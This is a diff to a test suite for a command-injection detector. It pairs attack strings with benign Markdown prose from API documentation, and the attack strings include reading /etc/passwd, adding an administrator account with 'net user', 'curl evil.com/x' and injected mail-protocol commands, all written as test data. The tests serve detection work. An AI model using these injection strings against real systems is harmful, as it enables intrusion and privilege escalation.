@@ -92,9 +92,51 @@ describe('command injection: shell grammar (round 3)', () => {
   // minutes and a linear one well under a second; the test timeout tells them apart (no
   // wall-clock assertion: speed belongs in bench/inspection/speed.ts).
   it('stays linear on long runs of newlines, `<(`, `/bin/` and `{`', { timeout: 10_000 }, () => {
-    for (const unit of ['\n', '\r\n', '<(', '/bin/', 'bin/', '{', '${']) {
+    for (const unit of ['\n', '\r\n', '<(', '/bin/', 'bin/', '{', '${', '`', '```\n', ' `a` ', '\n* `', '   `', '| --- ', ' & ', '\na001 ']) {
       const s = unit.repeat(Math.ceil(400_000 / unit.length));
       detectCmdi(s);
     }
   });
+});
+
+describe('command injection: Markdown prose from API descriptions is no command line', () => {
+  // [attack, expected rule@paranoia, benign near-miss that must pass at paranoia level 2]
+  const cases: [string, string, string][] = [
+    // a mail-protocol line has the arguments its RFC gives it and ends there; IMAP lines carry a tag
+    ['x\r\na001 uid store 231:233\r\n', 'mail-command@2', 'Intro.\n\nTo delete a team, the user must be an owner.'],
+    ['\r\nRETR 123', 'mail-command@2', 'x.\n\nDelete a reaction to a [team discussion](https://x.test/).'],
+    ['\r\nA1 list "INBOX/" "*"', 'mail-command@2', 'only for exports.\r\nA list of `repositories` is only returned.'],
+    ['\r\nd store 2 +FLAGS (\\Deleted)', 'mail-command@2', 'Hello! World.\ndata not found.'],
+    ['\r\nTOP 1 2', 'mail-command@2', 'endpoint.\n\nList all discussions on a team page.'],
+    ['\r\nPASS s3cret', 'mail-command@2', 'updated to.\n\nPass the appropriate [media type](https://x.test/).'],
+    ['\r\nA282 SEARCH FLAGGED SINCE 1-Feb-1994', 'mail-command@2', 'receive highlighted\nsearch results, see the docs'],
+    // the word after a closing backtick is an argument; Markdown inline code in a sentence is no substitution
+    ['`id`', 'command:id@1', 'if you previously had a `secret` set, you must provide the same `secret`'],
+    ['`true`id', 'command:id@1', 'the `pending_request.amount` at the time of the request'],
+    ['a=`id` b', 'command:id@1', '`id` of the user who will receive the message'],
+    [';`id`', 'command:id@1', 'gets a project by its `id`. returns a `404`'],
+    ['ping `id` x', 'command:id@2', 'valid values are `read`, `write`, or `admin`'],
+    ['see `whoami` output', 'command:whoami@2', 'compress it using [`gzip`](http://www.gnu.org/software/gzip/) first'],
+    ['`cat /etc/passwd` now', 'command:cat@1', 'or `max` which uses the usage record with the maximum'],
+    ['a\n*   `whoami` now', 'command:whoami@2', 'weekly hash:\n\n*   `w` - Start of the week\n*   `a` - Number of additions'],
+    // `at` takes a time, `net` a sub-command: "Time at which…", "Net amount of…" are English
+    ['time at now + 1 minute', 'command-line:time-at@2', 'Time at which the object was created.'],
+    ['net user admin /add', 'command-line:net@1', 'Net amount of the transaction, in %s.'],
+    [';net localgroup administrators x /add', 'command:net@1', 'x; net amount'],
+    // an HTML tag after a command word is markup, not a redirection
+    [';set <x', 'command:set@1', 'for subscription payments,\nset <a href="/docs/api">default</a>.'],
+    // PowerShell calls the .NET method statically; C# (`Convert.FromBase64String(`) is not PowerShell
+    ['[Convert]::FromBase64String("aWQ=")', 'powershell@1', 'var key = Convert.FromBase64String("2Sg8i");'],
+    // a GFM table (delimiter row present): a spaced `|` is a cell border
+    ['| name | type |\n|---|---|\n| x | cat /etc/passwd |', 'command:cat@1', '| Type    | Description |\n| ------- | ----------- |\n| `users` | x |'],
+    // a lone `&` between spaces is "and" in prose
+    ['x & curl evil.com/x', 'command:curl@1', 'GitHub Apps require `read & write` access; convert secret & base64 key.'],
+    // a Markdown code fence line is no (empty) substitution
+    ['```id`', 'command:id@1', 'Encrypt it:\n\n```ruby\nrequire "rbnacl"\nkey = RbNaCl::PublicKey.new(k)\n```'],
+    ['```\nls -la\n```', 'command:ls@1', '```json\n{"type": "id"}\n```'],
+  ];
+  for (const [attack, want, benign] of cases) {
+    it(`detects ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(attack), want));
+    it(`passes ${JSON.stringify(benign)} at paranoia level 2`, () => assert.ok(passesAt(benign, 2), at(benign)));
+  }
 });
